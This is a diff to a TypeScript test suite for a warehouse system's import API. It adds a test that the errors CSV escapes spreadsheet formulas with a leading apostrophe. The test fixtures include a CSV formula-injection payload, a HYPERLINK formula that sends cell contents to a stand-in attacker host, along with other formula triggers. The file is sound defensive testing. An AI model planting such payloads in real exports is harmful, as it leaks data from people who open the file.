@@ -1,5 +1,6 @@
 import { request as httpRequest } from 'node:http';
 import { gzipSync } from 'node:zlib';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { ImportsRepository } from '@wms/warehouse';
 import {
   createApiKey,
@@ -165,6 +166,45 @@ describe('file imports through the integration API', () => {
     expect(await errors.text()).toBe(
       `${header},error\r\nCSV-5,Bad type,alien,,${'"type must be one of [supplier, customer, carrier, other]"'}\r\n`,
     );
+  });
+
+  it("when failed rows hold formulas, the errors CSV prefixes each formula cell with ' and leaves -5 alone; the NDJSON errors keep the text as sent", async () => {
+    const file = [
+      'sku,name,baseUomCode',
+      '"=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")",,EA',
+      '@SUM(A1),,EA',
+      'FORMULA-3,,+1+2',
+      'FORMULA-4,,-1+A1',
+      'FORMULA-5,,-5',
+      'FORMULA-6,,"	TAB"',
+      'FORMULA-7,,a=b',
+    ].join('\r\n');
+
+    const job = await finished(String((await upload('items', `${file}\r\n`, csv)).body.jobId));
+    const asCsv = await fetch(`${gateway.url}${job.errorsUrl}`, { headers: { 'x-api-key': key, accept: 'text/csv' } });
+    const asNdjson = await fetch(`${gateway.url}${job.errorsUrl}`, { headers: { 'x-api-key': key } });
+
+    expect(job).toMatchObject({ state: 'completed', failed: 7 });
+    const cells = parseCsv(await asCsv.text()) as string[][];
+    expect(cells.map((record) => record.slice(0, 3))).toEqual([
+      ['sku', 'name', 'baseUomCode'],
+      ['\'=HYPERLINK("http://evil.example/?leak="&A1,"open")', '', 'EA'],
+      ["'@SUM(A1)", '', 'EA'],
+      ['FORMULA-3', '', "'+1+2"],
+      ['FORMULA-4', '', "'-1+A1"],
+      ['FORMULA-5', '', '-5'],
+      ['FORMULA-6', '', "'\tTAB"],
+      ['FORMULA-7', '', 'a=b'],
+    ]);
+    const entries = (await asNdjson.text())
+      .trim()
+      .split('\n')
+      .map((line) => (JSON.parse(line) as { entry: Record<string, string> }).entry);
+    expect(entries.map((entry) => entry.sku).slice(0, 2)).toEqual([
+      '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
+      '@SUM(A1)',
+    ]);
+    expect(entries.map((entry) => entry.baseUomCode).slice(2)).toEqual(['+1+2', '-1+A1', '-5', '\tTAB', 'a=b']);
   });
 
   it('when the file is wrong as a whole, it answers 4xx and stores nothing', async () => {
